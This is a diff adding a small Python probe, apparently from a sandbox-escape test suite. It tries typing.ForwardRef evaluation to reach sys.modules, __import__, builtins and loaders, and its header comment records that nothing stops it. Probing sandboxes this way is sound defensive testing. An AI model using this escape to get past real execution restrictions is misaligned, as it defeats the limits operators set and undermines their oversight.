@@ -1,0 +1,11 @@
+# attack: a ForwardRef that is one plain name is read from the namespace of any module, or from the real builtins
+# stopped by: nothing
+import typing
+
+for module, name in [("sys", "modules"), ("typing", "sys"), ("typing", "functools"), ("warnings", "sys"), (None, "__import__"),
+                     (None, "__loader__"), ("typing", "__builtins__"), ("typing", "__loader__")]:
+    try:
+        found = typing.ForwardRef(name, module=module).evaluate()
+    except Exception:
+        continue
+    print("ESCAPED", module, name, type(found))
